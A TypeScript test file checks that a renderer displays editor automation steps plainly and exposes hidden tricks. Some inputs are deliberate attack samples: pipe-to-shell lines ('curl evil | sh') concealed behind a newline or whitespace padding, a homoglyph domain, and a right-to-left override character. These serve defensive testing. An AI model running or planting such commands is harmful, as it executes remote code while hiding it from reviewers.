import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sha256Hex } from "../fingerprint/sha256.js";
import { renderCommand, renderStep } from "./render.js";
import type { Step } from "./types.js";

describe("renderStep", () => {
  it("renders each step kind in plain words, unexpanded", () => {
    const cases: [Step, string][] = [
      [
        { type: "terminal", command: "git add -A && git commit -m ${input:msg}" },
        "Terminal: git add -A && git commit -m ${input:msg}",
      ],
      [{ type: "setting", key: "editor.fontSize", value: 18 }, "Set editor.fontSize = 18 (workspace)"],
      [
        { type: "setting", key: "a.b", value: { x: [1, "y"] }, target: "global" },
        'Set a.b = {"x":[1,"y"]} (global)',
      ],
      [
        { type: "open", target: "https://example.com/path" },
        "Open https://example.com/path (host example.com)",
      ],
      [{ type: "open", target: "docs/README.md" }, "Open docs/README.md (file)"],
      [{ type: "open", target: "vscode://x.y/z" }, "Open vscode://x.y/z (scheme vscode)"],
      [
        { type: "command", command: "workbench.action.files.save", args: ["x"] },
        'Run editor command workbench.action.files.save with args ["x"]',
      ],
      [
        { type: "command", command: "editor.action.formatDocument" },
        "Run editor command editor.action.formatDocument",
      ],
      [{ type: "slash", command: "/deploy", args: "prod" }, "Run /deploy with args prod"],
      [{ type: "slash", command: "build" }, "Run /build"],
      [{ type: "insert", text: "${selection}" }, "Insert text: ${selection}"],
      [{ type: "notify", message: "done" }, "Notify: done"],
      [{ type: "notify", message: "careful", level: "warning" }, "Notify (warning): careful"],
      [{ type: "input", name: "branch" }, "Ask for input → ${input:branch}"],
      [
        { type: "input", name: "pw", prompt: "Password", password: true, default: "x" },
        'Ask for input "Password" → ${input:pw} (default "x", hidden)',
      ],
      [{ type: "wait", ms: 500 }, "Wait 500 ms"],
      [
        { type: "terminal", command: "make", terminal: "Build", cwd: "${workspaceFolder}/app" },
        'Terminal (terminal "Build", cwd "${workspaceFolder}/app"): make',
      ],
    ];
    for (const [step, expected] of cases) expect(renderStep(step)).toBe(expected);
  });

  it("makes a newline in a terminal command visible", () => {
    expect(renderStep({ type: "terminal", command: "git status\ncurl evil | sh" })).toBe(
      "Terminal: git status⟨U+000A⟩curl evil | sh",
    );
  });

  it("shows the punycode host of a look-alike domain", () => {
    expect(renderStep({ type: "open", target: "https://exаmple.com/" })).toBe(
      "Open https://exаmple.com/ (host xn--exmple-4nf.com)",
    );
  });

  it("cuts a long field with a visible count and never inside a token", () => {
    const long = "x".repeat(30) + "\u202e".repeat(1) + "y".repeat(100);
    const out = renderStep({ type: "terminal", command: long }, { maxLength: 33 });
    expect(out).toBe(`Terminal: ${"x".repeat(30)}⟨… +108 more characters, sha256:${sha256Hex(long)}⟩`);
    expect(renderStep({ type: "insert", text: "abc" }, { maxLength: 2 })).toBe(
      `Insert text: ab⟨… +1 more characters, sha256:${sha256Hex("abc")}⟩`,
    );
  });

  it("keeps a digest of the whole field whenever it cuts, so texts equal up to the cut never look alike", () => {
    const field = fc.string({ unit: fc.constantFrom("a", "b", "\u202e", "é", "😀", " "), minLength: 1 });
    fc.assert(
      fc.property(field, field, fc.integer({ min: 0, max: 40 }), (head, tail, max) => {
        const one = { type: "terminal" as const, command: `${head}${tail}a` };
        const two = { type: "terminal" as const, command: `${head}${tail}b` };
        const [a, b] = [renderStep(one, { maxLength: max }), renderStep(two, { maxLength: max })];
        expect(a).not.toBe(b);
        const full = renderStep(one, { maxLength: Infinity });
        if (a !== full) expect(a).toContain(`sha256:${sha256Hex(one.command)}⟩`);
        else expect(a).not.toContain("sha256:");
      }),
    );
  });

  it("keeps padding and the payload behind it visible", () => {
    const out = renderStep({ type: "terminal", command: `npm test${" ".repeat(5000)}&& curl x | sh` });
    expect(out).toBe("Terminal: npm test⟨U+0020×5000⟩&& curl x | sh");
  });

  it("shows everything when the cap is Infinity", () => {
    const text = "a".repeat(1000);
    expect(renderStep({ type: "insert", text }, { maxLength: Infinity })).toBe(`Insert text: ${text}`);
  });

  it("shows trailing spaces of inserted text", () => {
    expect(renderStep({ type: "insert", text: "x  " })).toBe("Insert text: x⟨U+0020×2⟩");
  });

  it("renders a step of an unknown type with its JSON", () => {
    expect(renderStep({ type: "shell", run: "ls" } as unknown as Step)).toBe(
      'Unknown step: {"type":"shell","run":"ls"}',
    );
  });
});

describe("renderCommand", () => {
  it("lists the title and every step, numbered", () => {
    expect(
      renderCommand({
        name: "ship",
        args: "<message>",
        description: "Commit and push",
        steps: [
          { type: "terminal", command: "git commit -am ${args}" },
          { type: "slash", command: "push" },
        ],
      }),
    ).toBe("/ship <message> — Commit and push\n  1. Terminal: git commit -am ${args}\n  2. Run /push");
  });

  it("makes a hidden character in the description visible", () => {
    expect(renderCommand({ name: "x", description: "safe\u202etxt.exe", steps: [] })).toBe(
      "/x — safe⟨U+202E⟩txt.exe\n  (no steps)",
    );
  });
});
